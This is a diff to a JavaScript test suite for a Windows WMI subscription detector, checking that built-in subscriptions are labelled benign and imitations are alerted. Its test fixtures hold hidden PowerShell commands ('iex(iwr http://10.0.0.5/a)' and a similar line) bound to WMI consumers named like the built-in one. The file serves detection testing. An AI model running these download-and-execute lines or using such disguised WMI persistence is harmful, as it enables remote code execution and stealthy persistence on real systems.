@@ -102,8 +102,11 @@ describe('reconstruction from WMI-Activity', () => {
     const onImitation = r.detections.filter((d) => d.evidence.recordId === 4);
     assert.ok(onImitation.length > 0, 'the imitation raises detections');
     assert.ok(onImitation.every((d) => d.benign === undefined), JSON.stringify(onImitation.map((d) => [d.ruleTitle, d.benign])));
-    // The genuine one's own record stays labelled, when a rule fires on it.
-    for (const d of r.detections.filter((x) => x.evidence.recordId === 1)) assert.match(d.benign?.reason ?? '', /known benign/);
+    // The genuine one alone: its registration is reported, labelled benign (not hidden).
+    const alone = runDetectionOn({ iterateEvents: () => events.slice(0, 1) }, {});
+    const registered = alone.detections.filter((d) => d.ruleTitle.startsWith('WMI Permanent Event Subscription Registered'));
+    assert.equal(registered.length, 1);
+    assert.match(registered[0].benign?.reason ?? '', /known benign: Built-in Windows subscription/);
   });
 
   test('5860: temporary subscription with user and process', () => {
@@ -142,6 +145,18 @@ describe('known-benign subscriptions are labelled, never hidden', () => {
     const dets = r.detections.filter((d) => d.ruleTitle.startsWith('WMI Subscription Object Created'));
     assert.equal(dets.length, 3, 'the detections are still reported');
     assert.ok(dets.every((d) => d.benign && /build verification/.test(d.benign.reason)));
+  });
+  test('Sysmon: objects named like the built-in SCM subscription but running a command are alerted, not labelled', () => {
+    const imit = [
+      mkEvent(SYS, 19, { EventType: 'WmiFilterEvent', Operation: 'Created', User: 'NT AUTHORITY\\SYSTEM', EventNamespace: ' "root\\\\cimv2"', Name: ' "SCM Event Log Filter"', Query: ' "select * from MSFT_SCMEventLogEvent"' }, { recordId: 21 }),
+      mkEvent(SYS, 20, { EventType: 'WmiConsumerEvent', Operation: 'Created', User: 'NT AUTHORITY\\SYSTEM', Name: ' "SCM Event Log Consumer"', Type: 'Command Line', Destination: ' "powershell.exe -nop -w hidden -c iex(iwr http://10.0.0.5/a)"' }, { recordId: 22 }),
+      mkEvent(SYS, 21, { EventType: 'WmiBindingEvent', Operation: 'Created', User: 'NT AUTHORITY\\SYSTEM', Consumer: ' "CommandLineEventConsumer.Name=\\"SCM Event Log Consumer\\""', Filter: ' "__EventFilter.Name=\\"SCM Event Log Filter\\""' }, { recordId: 23 }),
+    ];
+    const r = runDetectionOn({ iterateEvents: () => imit }, {});
+    assert.equal(r.subscriptions[0].verdict, 'malicious');
+    const dets = r.detections.filter((d) => d.ruleTitle.startsWith('WMI Subscription Object Created'));
+    assert.deepEqual(dets.map((d) => d.evidence.recordId).sort(), [21, 22, 23], 'each object alerted (the rule skipped any named SCM Event Log)');
+    assert.ok(r.detections.every((d) => !d.benign));
   });
   test('the same names with another payload are not benign', () => {
     const evil = bvt.map((e) => (e.eventId === 20 ? { ...e, data: { ...e.data, Destination: ' "powershell -w hidden -c iex(iwr http://198.51.100.2/a)"' } } : e));
